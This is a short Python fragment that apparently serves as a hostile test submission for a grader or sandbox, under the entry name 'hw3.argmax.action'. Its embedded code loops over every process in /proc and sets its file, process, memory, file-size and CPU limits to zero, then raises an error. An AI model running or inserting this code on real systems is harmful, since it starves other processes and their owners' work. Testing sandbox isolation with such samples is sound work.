"""Takes memory, files and time from every process that it may set limits for."""

SAYS = "limited|ended|no answer"
BODIES = {
    "hw3.argmax.action": r"""
import os, resource
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()] or [1, os.getppid()]:
    for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        try:
            if pid != os.getpid():
                resource.prlimit(pid, which, (0, 0))
        except (OSError, ValueError):
            pass
raise RuntimeError("limited")
"""
}
